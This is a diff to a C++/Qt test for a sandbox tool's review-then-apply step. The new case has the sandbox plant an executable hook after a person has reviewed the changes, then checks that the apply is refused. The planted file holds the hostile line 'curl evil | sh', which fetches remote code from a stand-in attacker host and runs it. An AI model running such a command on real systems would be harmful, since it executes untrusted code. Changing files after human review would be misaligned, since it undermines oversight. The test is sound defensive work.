@@ -97,6 +97,18 @@ template<typename Ctl> void reviewAndApply(const Ctl &ctl, const QString &root)
     QVERIFY2(diff.contains("+++ b/c.txt\n@@ -0,0 +1 @@\n+new\n"), diff.constData());
     QVERIFY2(diff.contains("the-shadow"), diff.constData()); // the link, shown
     unchanged(root);
+    // Once reviewed, nothing the diff did not show is applied: a file the sandbox adds after it
+    // (the red team's executable hook) refuses the whole apply until the person looks again.
+    auto [late, lateOut] = ctl(args("exec", "cow", "-n", "--", "sh", "-c",
+        "echo 'curl evil | sh' > /project/p/late.sh && chmod +x /project/p/late.sh"));
+    QVERIFY2(late == 0, lateOut.constData());
+    auto [refused, refusedOut] = ctl(args("agent", "apply", "cow"));
+    QVERIFY2(refused == 6 && refusedOut.contains("the sandbox changed what you reviewed since")
+            && refusedOut.contains("late.sh (added file executable)"),
+        refusedOut.constData());
+    QVERIFY(!QFileInfo::exists(root + QStringLiteral("/late.sh")));
+    unchanged(root);
+    QCOMPARE(ctl(args("exec", "cow", "-n", "--", "rm", "/project/p/late.sh")).first, 0);
     auto [one, oneOut] = ctl(args("agent", "apply", "cow", "sub"));
     QVERIFY2(one == 0, oneOut.constData());
     QCOMPARE(readFile(root + QStringLiteral("/sub/f.txt")), QByteArray("fresh\n"));
